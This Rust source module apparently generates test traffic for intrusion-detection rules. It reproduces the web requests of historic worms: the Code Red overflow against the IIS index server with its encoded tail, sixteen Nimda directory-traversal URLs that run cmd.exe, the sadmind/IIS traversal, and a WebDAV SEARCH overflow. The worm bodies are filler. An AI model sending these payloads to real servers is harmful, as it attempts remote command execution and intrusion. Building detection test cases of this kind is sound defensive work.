//! Worms that came as a web request: Code Red and its kin, Nimda, sadmind/IIS, and the `WebDAV` search overflow.
//!
//! Sources: Apache's page on Code Red and public rules for its binary (request, headers), the server logs of
//! Nimda (the form on the wire, not the decoded one of the advisories), Snort rules 1375 and 1070.

use super::{Route, client_data, full_size_client_data};
use crate::builder::PacketBuilder;

const HTTP: u16 = 80;
const NOP: u8 = 0x90;

/// How many times Code Red repeats its byte before the encoded addresses.
const CODE_RED_RUN: usize = 224;
const CODE_RED_TAIL: &str = "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801\
                             %u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a";

/// Nimda's sixteen requests in the order it sent them: signature name and URL.
pub const NIMDA_URLS: [(&str, &str); 16] = [
    ("nimda-01", "/scripts/root.exe?/c+dir"),
    ("nimda-02", "/MSADC/root.exe?/c+dir"),
    ("nimda-03", "/c/winnt/system32/cmd.exe?/c+dir"),
    ("nimda-04", "/d/winnt/system32/cmd.exe?/c+dir"),
    (
        "nimda-05",
        "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-06",
        "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-07",
        "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-08",
        "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-09",
        "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-10",
        "/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-11",
        "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-12",
        "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-13",
        "/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-14",
        "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-15",
        "/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
    ),
    (
        "nimda-16",
        "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
    ),
];

/// Code Red v1 and v2: the first, full-size segment. The worm's body is filler.
pub fn code_red(route: &Route) -> PacketBuilder {
    let headers =
        "Content-type: text/xml\nHOST:www.worm.com\n Accept: */*\nContent-length: 3569 \r\n\r\n";
    index_server_overflow(route, "/default.ida?", 'N', headers)
}

/// Code Red II: the first, full-size segment. The worm's body is filler.
pub fn code_red_ii(route: &Route) -> PacketBuilder {
    let headers = "Content-type: text/xml\nContent-length: 3379 \r\n\r\n";
    index_server_overflow(route, "/default.ida?", 'X', headers)
}

/// A later mutant: the other extension of the index server and another byte.
pub fn ida_overflow(route: &Route) -> PacketBuilder {
    index_server_overflow(route, "/null.idq?", 'A', "Content-length: 3379 \r\n\r\n")
}

/// One of Nimda's requests; the spelling of the last header is the worm's.
pub fn nimda(route: &Route, url: &str) -> PacketBuilder {
    let request = format!("GET {url} HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n");
    client_data(route, HTTP, request.as_bytes())
}

/// sadmind/IIS: the request that asks whether the server is IIS.
pub fn sadmind_iis(route: &Route) -> PacketBuilder {
    client_data(route, HTTP, b"GET x HTTP/1.0\r\n\r\n")
}

/// sadmind/IIS: the request that follows, in the form Nimda later used as its eleventh.
pub fn sadmind_iis_traversal(route: &Route) -> PacketBuilder {
    client_data(
        route,
        HTTP,
        b"GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n",
    )
}

/// The `WebDAV` overflow of Welchia and Agobot: a `SEARCH` whose path alone fills more than a frame.
pub fn webdav_search(route: &Route) -> PacketBuilder {
    full_size_client_data(route, HTTP, b"SEARCH /".to_vec(), NOP)
}

fn index_server_overflow(
    route: &Route,
    path: &str,
    run_byte: char,
    headers: &str,
) -> PacketBuilder {
    let run = run_byte.to_string().repeat(CODE_RED_RUN);
    let request = format!("GET {path}{run}{CODE_RED_TAIL}  HTTP/1.0\r\n{headers}");
    full_size_client_data(route, HTTP, request.into_bytes(), NOP)
}
